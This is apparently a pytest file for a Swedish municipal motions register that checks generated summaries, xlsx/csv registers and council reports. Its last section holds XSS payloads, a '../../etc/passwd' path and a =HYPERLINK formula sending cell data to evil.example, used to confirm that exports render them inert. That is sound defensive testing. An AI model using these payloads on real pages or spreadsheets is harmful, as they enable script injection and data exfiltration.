"""Reports from a real register: the Bruksvik chain (motion → answer → KS → KF
återremiss → new answer → KF bifall), the Ånge seed answer, a medborgarförslag and a
motion without Dnr, ingested from samples/. Files are reloaded with python-docx and
openpyxl and read as a person would. Hostile text (scripts, formulas, control
characters) comes from records built in the test."""

from __future__ import annotations

import csv
import datetime as dt
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import docx
import openpyxl
import pytest

from pipeline.extract.record import Author, Clause, Comment, Record, Source, Warning
from pipeline.register import ingest_file
from pipeline.reports import write_all, write_case_summary, write_summaries
from pipeline.reports.council import report_date, write_council_report
from pipeline.reports.labels import safe_name
from pipeline.reports.register import export_register
from pipeline.store import open_store
from conftest import BRUKSVIK_443_TIMELINE

SAMPLES = Path(__file__).resolve().parent.parent / "samples"
TODAY = dt.date(2024, 6, 1)
FILES = [*(f"bruksvik-ks-2014-443_{n}.docx" for n in ("1_motion", "2_svar", "3_ks-protokoll", "4_kf-protokoll",
                                                      "5_svar", "6_kf-protokoll")),
         "seed_ange_ks-20-399_svar.docx", "lindtrask-ksf-2023-24_1_medborgarforslag.txt",
         "havsnas-ks-2014-742_1_motion.txt"]


@pytest.fixture(scope="module")
def reg(tmp_path_factory):
    root = tmp_path_factory.mktemp("reports")
    store = open_store(root / "motions.db")
    outcomes = {name: ingest_file(store, SAMPLES / name) for name in FILES}
    assert all(o.action == "stored" for o in outcomes.values())
    paths = write_all(store, root / "out", today=TODAY)
    yield store, root / "out", paths, outcomes
    store.close()


def docx_text(path: Path) -> tuple[list[str], list[list[list[str]]]]:
    d = docx.Document(str(path))
    return [p.text for p in d.paragraphs], [[[c.text for c in row.cells] for row in t.rows] for t in d.tables]


def facts(table: list[list[str]]) -> dict[str, str]:
    return {row[0]: row[1] for row in table}


# ---- everything written -------------------------------------------------------------

def test_reports_write_all_writes_every_file(reg):
    _, out, paths, outcomes = reg
    stems = sorted({p.stem for p in paths.summaries})
    medb, havs = outcomes[FILES[7]].case_id, outcomes[FILES[8]].case_id
    assert stems == sorted(["KS-2014-443", "KS-2020-399", f"arende-{medb}", f"arende-{havs}"])
    assert {p.suffix for p in paths.summaries} == {".md", ".html", ".docx"}
    assert [p.name for p in paths.register] == ["register.xlsx", "register.csv", "register_att-satser.csv"]
    assert [p.name for p in paths.council] == ["redovisning-ej-fardigberedda-2024-10.docx",
                                               "redovisning-ej-fardigberedda-2024-10.xlsx"]
    assert all(p.is_file() and p.stat().st_size > 0 for p in paths.all)
    assert all(p.parent == out / "summaries" for p in paths.summaries)
    assert not [p for p in out.rglob(".*")]  # no temporary file left behind


# ---- case summary -------------------------------------------------------------------

def test_reports_summary_docx_tells_the_bruksvik_case(reg):
    paras, tables = docx_text(reg[1] / "summaries" / "KS-2014-443.docx")
    assert paras[0] == "Motion om tillgänglighetsanpassade lekplatser"
    f = facts(tables[0])
    assert f["Dnr"] == "KS/2014:443 (nyckel KS 2014/443)"
    assert f["Kommun"] == "Bruksviks kommun"
    assert f["Förslagsställare"] == "Joakim Lind (VF)" and f["Partier"] == "VF"
    # No KF announcement among the samples: inlämnad is known, väckt is not, and the
    # deadline rests on inlämnad.
    assert f["Inlämnad"] == "2014-09-22" and f["Väckt"] == "ej väckt ännu (inlämnad 2014-09-22)"
    # Decided 2015-10-26: after the (provisional) deadline.
    assert f["Ska beslutas senast"] == ("2015-09-22 (preliminärt, räknat från inlämningsdagen); avgjord 34 dagar "
                                        "över tidsgränsen (enligt Kommunallagen 5 kap. 35 §)")
    assert f["Beslutat"] == "2015-10-26" and f["Dagar kvar"] == "–"  # decided: no clock
    assert f["Stadium"] == "beslut i KF (kommunfullmäktige)"
    decision = facts(tables[1])
    # The proposal that stands is the second answer's (the first was sent back).
    assert decision["Förslag till beslut"].startswith("bifall – ”Motionen bifalls.” (KS, 2015-08-24, "
                                                      "bruksvik-ks-2014-443_5_svar.docx)")
    assert decision["Beslut"].startswith("bifall") and "2015-10-26" in decision["Beslut"]
    clauses = tables[2]
    assert clauses[0] == ["Nr", "Att-sats", "Kommentar", "Läge", "Föreslaget", "Utfall"]
    assert [r[0] for r in clauses[1:]] == ["1", "2", "3"]
    first = clauses[1]
    assert first[1] == ("att kommunen inventerar tillgängligheten på samtliga kommunala lekplatser\n"
                        "bruksvik-ks-2014-443_1_motion.docx, stycke 7")  # block 6, shown 1-based
    assert first[2].startswith("inventeringen genomfördes i maj 2015.")
    assert first[2].endswith("bruksvik-ks-2014-443_5_svar.docx, stycke 16")
    assert first[3:] == ["beslutad", "bifall", "bifall"]
    timeline = tables[3]
    assert timeline[0] == ["Datum", "Vad som hände", "Flaggor"]
    # Each step says what was proposed or decided, by whom, when and where.
    assert [r[1] for r in timeline[1:]] == BRUKSVIK_443_TIMELINE
    documents = tables[4]
    assert len(documents) == 7 and documents[2][1:4] == ["bruksvik-ks-2014-443_2_svar.docx",
                                                         "svar/tjänsteskrivelse", "inläst"]
    warnings = tables[5]
    assert warnings[0] == ["Dokument", "Varning"]  # the code stays in the JSON
    assert warnings[1] == ["bruksvik-ks-2014-443_2_svar.docx", "Svaret saknar förslag till beslut."]


def test_reports_summary_lists_every_warning_and_flag(reg):
    paras, tables = docx_text(reg[1] / "summaries" / "KS-2020-399.docx")
    f = facts(tables[0])
    assert f["Väckt"] == "–" and f["Ska beslutas senast"] == "–"
    assert f["Nästa redovisning för fullmäktige"] == "oktober 2024"
    timeline = tables[3]
    assert timeline[1][0] == "utan datum" and timeline[1][2] == "datum saknas"
    messages = [r[1] for r in tables[5][1:]]
    assert [m.startswith("Mallens platshållartext finns kvar") for m in messages] == [True, True, True, False]
    assert messages[3] == "”Beslutet ska skickas till” är inte ifyllt."
    md = (reg[1] / "summaries" / "KS-2020-399.md").read_text(encoding="utf-8")
    assert "placeholder_left" not in md and "empty_send_to" not in md  # no English codes in Swedish text


def test_reports_summary_md_and_html_say_the_same(reg):
    out = reg[1] / "summaries"
    md = (out / "KS-2014-443.md").read_text(encoding="utf-8")
    page = (out / "KS-2014-443.html").read_text(encoding="utf-8")
    for text in ("Motion om tillgänglighetsanpassade lekplatser", "Joakim Lind (VF)", "2015-09-22",
                 "planen kan redovisas för kommunfullmäktige i december 2015.", "Återremitterad till kommunstyrelsen",
                 "stycke 16", "KS föreslår KF att avslå motionen"):
        assert text in md and text in page
    assert '<html lang="sv">' in page and "@page" in page and "Content-Security-Policy" in page
    assert ("| Ska beslutas senast | 2015-09-22 (preliminärt, räknat från inlämningsdagen); avgjord 34 dagar över "
            "tidsgränsen (enligt Kommunallagen 5 kap. 35 §) |") in md


def test_reports_summary_renames_when_the_case_learns_its_dnr(tmp_path):
    with open_store(tmp_path / "m.db") as st:
        motion = ingest_file(st, SAMPLES / "havsnas-ks-2014-742_1_motion.txt")
        first = write_summaries(st, tmp_path / "s", today=TODAY)
        assert sorted(p.name for p in first) == [f"arende-{motion.case_id}.{x}" for x in ("docx", "html", "md")]
        protocol = ingest_file(st, SAMPLES / "havsnas-ks-2014-742_2_kf-protokoll.docx")
        assert protocol.case_id == motion.case_id  # linked by title: the case learns its Dnr
        second = write_case_summary(st, "KS-2014/742", tmp_path / "s", today=TODAY)
    assert sorted(p.name for p in (tmp_path / "s").iterdir()) == sorted(p.name for p in second)
    assert {p.stem for p in second} == {"KS-2014-742"}


def test_reports_safe_name():
    assert safe_name("KS 2020/399", 1) == "KS-2020-399"
    assert safe_name("../../etc/passwd", 3) == "etc-passwd"
    assert safe_name(None, 7) == safe_name("/..", 7) == "arende-7"


# ---- register ---------------------------------------------------------------------------

def test_reports_register_xlsx_and_csv(reg):
    out = reg[1]
    wb = openpyxl.load_workbook(out / "register.xlsx")
    assert wb.sheetnames == ["Ärenden", "Att-satser"]
    cases, clauses = wb["Ärenden"], wb["Att-satser"]
    for ws in (cases, clauses):
        assert ws.freeze_panes == "A2" and ws.auto_filter.ref == ws.dimensions
        widths = [ws.column_dimensions[c.column_letter].width for c in ws[1]]
        assert min(widths) >= 6 and max(widths) <= 60  # long text capped, and wraps
    assert max(clauses.column_dimensions[c.column_letter].width for c in clauses[1]) == 60
    head = [c.value for c in cases[1]]
    assert head[:15] == ["Ärende", "Dnr", "Dnr-nyckel", "Ärendeslag", "Titel", "Kommun", "Förslagsställare",
                         "Partier", "Inlämnad", "Väckt", "Ska beslutas senast", "Preliminär tidsgräns",
                         "Avgjord efter tidsgränsen (dagar)", "Dagar kvar", "Försenad"]
    rows = {r[0]: dict(zip(head, r)) for r in cases.iter_rows(min_row=2, values_only=True)}
    assert len(rows) == 4
    bruksvik = next(r for r in rows.values() if r["Dnr-nyckel"] == "KS 2014/443")
    assert bruksvik["Inlämnad"].date() == dt.date(2014, 9, 22)  # a date cell (openpyxl reloads datetime)
    assert bruksvik["Väckt"] is None and bruksvik["Preliminär tidsgräns"] == "Ja"
    assert bruksvik["Beslutsdatum"].date() == dt.date(2015, 10, 26)
    assert cases["I2"].number_format == "YYYY-MM-DD"  # Inlämnad
    assert bruksvik["Beslut"] == "bifall" and bruksvik["Dagar kvar"] is None and bruksvik["Att-satser"] == 3
    medb = next(r for r in rows.values() if r["Ärendeslag"] == "medborgarförslag")
    assert medb["Dagar kvar"] == -108 and medb["Försenad"] == "Ja"
    head2 = [c.value for c in clauses[1]]
    body = [dict(zip(head2, r)) for r in clauses.iter_rows(min_row=2, values_only=True)]
    assert sum(1 for r in body if r["Dnr"] == "KS/2014:443") == 3
    seed1 = next(r for r in body if r["Dnr"] == "KS 20/399" and r["Nr"] == 1)
    assert seed1["Stycke"] == 12 and seed1["Läge"] == "kommenterad – svaret tar inte ställning" and seed1["Hållning"] == "neutral"
    with open(out / "register.csv", encoding="utf-8-sig", newline="") as f:
        csv_rows = list(csv.DictReader(f, delimiter=";"))
    assert len(csv_rows) == len(rows) == 4
    assert next(r for r in csv_rows if r["Dnr-nyckel"] == "KS 2014/443")["Inlämnad"] == "2014-09-22"
    with open(out / "register_att-satser.csv", encoding="utf-8-sig", newline="") as f:
        assert len(list(csv.DictReader(f, delimiter=";"))) == len(body)


# ---- council report -----------------------------------------------------------------------

def test_reports_council_report_lists_unfinished_cases(reg):
    _, out, paths, _ = reg
    paras, tables = docx_text(paths.council[0])
    text = "\n".join(paras)
    assert paras[0] == "Redovisning av motioner som inte är färdigberedda"
    assert "Kommunfullmäktige, oktober 2024. Underlag per 2024-06-01." in text
    assert "Enligt 5 kap. 35 § kommunallagen (2017:725) bör en motion beredas" in text
    assert "Fullmäktige får då avskriva motionen från vidare handläggning." in text
    assert "i april och oktober" in text
    motions, proposals = tables
    assert motions[0] == ["Dnr", "Ärende", "Förslagsställare", "Var ärendet är", "Ska beslutas senast",
                          "Vad som framkommit vid beredningen", "Beräknat beslut", "Förslag"]
    assert not any("KS/2014:443" in r[0] for r in motions)  # decided in KF: not listed
    havsnas, seed = motions[1], motions[2]  # oldest first, undated last
    assert havsnas[1:5] == ["Motion om läxhjälp på alla skolor", "Per Åkesson (C)", "inlämnad, kommunfullmäktige",
                            "2015-10-02 (preliminärt, räknat från inlämningsdagen)\n"
                            "väckt: ej väckt ännu (inlämnad 2014-10-02)\n3165 dagar över tidsgränsen"]
    assert havsnas[5] == ("Motionen lämnas in till KF (2014-10-02, havsnas-ks-2014-742_1_motion.txt)\n"
                          "Inget förslag till svar finns ännu i registret.")
    assert havsnas[6].startswith("oktober 2024\nstyrmodellen: senaste steget 2014-10-02")
    assert havsnas[7] == "Föreslås avskrivas enligt KL 5 kap. 35 §"
    assert seed[0] == "KS 20/399" and seed[4] == "–" and seed[7] == "Fortsatt beredning"
    assert seed[5].startswith("Förslag till svar: att motionen anses besvarad (KS, utan datum, "
                              "seed_ange_ks-20-399_svar.docx)\nSvaret om att-sats 1: ”kommunstyrelsen har mandat")
    assert proposals[1][1] == "Medborgarförslag om hundrastgård i Backa"
    assert proposals[1][7] == "Föreslås avskrivas enligt fullmäktiges arbetsordning"
    # The row proposed for write-off is shaded, the other is not.
    rows = docx.Document(str(paths.council[0])).tables[0].rows
    assert 'w:fill="F8D7DA"' in rows[1]._tr.xml and "F8D7DA" not in rows[2]._tr.xml
    wb = openpyxl.load_workbook(paths.council[1])
    assert wb.sheetnames == ["Om redovisningen", "Motioner", "Medborgarförslag"]
    ws = wb["Motioner"]
    row = dict(zip([c.value for c in ws[1]], [c.value for c in ws[2]]))
    assert row["Dagar kvar"] == "3165 dagar över tidsgränsen" and row["Försenad"] == "Ja"
    assert row["Förslag"] == "Föreslås avskrivas enligt KL 5 kap. 35 §" and row["Beräknat beslut"] == "oktober 2024"
    assert ws["A2"].fill.fgColor.rgb.endswith("F8D7DA") and ws.freeze_panes == "A2"


def test_reports_council_report_before_the_deadline(reg, tmp_path):
    store = reg[0]
    docx_path, _ = write_council_report(store, tmp_path, today=dt.date(2014, 12, 1))
    assert docx_path.name == "redovisning-ej-fardigberedda-2015-04.docx"
    _, tables = docx_text(docx_path)
    havsnas = next(r for r in tables[0] if r[1] == "Motion om läxhjälp på alla skolor")
    assert havsnas[4].endswith("305 dagar kvar") and havsnas[7] == "Fortsatt beredning"


def test_reports_council_report_date_follows_the_governance_months(reg):
    gov = reg[0].gov
    assert report_date(gov, dt.date(2024, 6, 1)) == dt.date(2024, 10, 1)
    assert report_date(gov, dt.date(2024, 4, 30)) == dt.date(2024, 4, 1)
    assert report_date(gov, dt.date(2024, 11, 2)) == dt.date(2025, 4, 1)
    assert report_date(gov.model_copy(update={"reporting_months": ()}), dt.date(2024, 11, 2)) == dt.date(2024, 11, 1)


# ---- hostile text ---------------------------------------------------------------------------

SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")'
HOSTILE_CLAUSES = (
    f"att {SCRIPT} införs",
    "att [klicka](javascript:alert(1)) och <a href=\"javascript:alert(2)\">länk</a> <img src=x onerror=alert(3)>",
    FORMULA,
    "+1+1",
    "-2-2",
    "@SUMMA(A1:A9)",
    "\tatt tabben\x0bbryter raden",
)


def hostile_record(sha: str = "e") -> Record:
    return Record(
        source=Source(f"/in/{sha}.docx", sha.ljust(64, "0"), "docx"), doc_type="motion", dnr="KS 2099/1",
        dnr_key="KS 2099/1", title="=1+1 <b>Motion</b> om </title><script>alert(4)</script>",
        municipality="Testby kommun", body="KF", date="2099-01-10", officer=None,
        authors=(Author("<i>Eva</i> Ek", "=S"),),
        clauses=tuple(Clause(i, t, 1, 10 + i) for i, t in enumerate(HOSTILE_CLAUSES, 1)),
        comments=(Comment(1, f"javascript:alert(5) {SCRIPT}", 2, 30),), decision=None,
        warnings=(Warning("placeholder_left", f"Mall kvar: {SCRIPT}"),),
    )


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs += [name for name, _ in attrs]


def test_reports_hostile_text_is_inert_in_every_summary(tmp_path):
    with open_store(tmp_path / "m.db") as st:
        case_id = st.add_record(hostile_record()).case_id
        paths = write_case_summary(st, case_id, tmp_path / "s", today=TODAY)
    md_path, html_path, docx_path = paths
    page = html_path.read_text(encoding="utf-8")
    parser = _Tags()
    parser.feed(page)
    assert parser.tags <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "span", "table",
                           "thead", "tbody", "tr", "th", "td", "div", "br", "footer"}
    assert not {"href", "src"} & set(parser.attrs) and not [a for a in parser.attrs if a.startswith("on")]
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in page
    assert "&lt;/title&gt;&lt;script&gt;alert(4)&lt;/script&gt;" in page
    assert "javascript:alert(1)" in page  # kept as text, never in an attribute
    md = md_path.read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)[<\[\]]", md)  # no tag, link or image markup left unescaped
    assert r"\<script\>alert('x')\</script\>" in md and r"\[klicka\](javascript:alert(1))" in md
    _, tables = docx_text(docx_path)
    clause_texts = [r[1].split("\n")[0] for r in tables[2][1:]]
    assert clause_texts[0] == f"att {SCRIPT} införs"  # Word shows it as the text it is
    assert clause_texts[6] == "\tatt tabben bryter raden"  # \x0b is not allowed in XML


def test_reports_formula_text_is_written_as_text(tmp_path):
    with open_store(tmp_path / "m.db") as st:
        st.add_record(hostile_record())
        export_register(st, tmp_path, today=TODAY)
        _, council_xlsx = write_council_report(st, tmp_path, today=TODAY)
    wb = openpyxl.load_workbook(tmp_path / "register.xlsx")
    ws = wb["Att-satser"]
    head = [c.value for c in ws[1]]
    col = head.index("Att-sats") + 1
    cells = [ws.cell(row=r, column=col) for r in range(2, ws.max_row + 1)]
    formula = next(c for c in cells if str(c.value).startswith("=HYPERLINK"))
    assert isinstance(formula.value, str) and formula.value == FORMULA and formula.data_type == "s"
    assert formula.quotePrefix  # Excel keeps it text even after someone edits the cell
    assert [c.value for c in cells[3:6]] == ["+1+1", "-2-2", "@SUMMA(A1:A9)"]
    title = wb["Ärenden"]["E2"]
    assert title.value.startswith("=1+1") and title.data_type == "s"
    for path in (tmp_path / "register.xlsx", council_xlsx):
        with zipfile.ZipFile(path) as z:
            sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(re.search(r"<f[ >]", s) for s in sheets)  # no formula anywhere
        assert all(c.data_type != "f" for w in openpyxl.load_workbook(path) for row in w.iter_rows() for c in row)
    with open(tmp_path / "register_att-satser.csv", encoding="utf-8-sig", newline="") as f:
        texts = [r["Att-sats"] for r in csv.DictReader(f, delimiter=";")]
    assert texts[2] == "'" + FORMULA
    assert texts[3:6] == ["'+1+1", "'-2-2", "'@SUMMA(A1:A9)"]
    assert texts[6].startswith("'\t")
    with open(tmp_path / "register.csv", encoding="utf-8-sig", newline="") as f:
        row = next(csv.DictReader(f, delimiter=";"))
    assert row["Titel"].startswith("'=1+1") and row["Partier"] == "'=S"
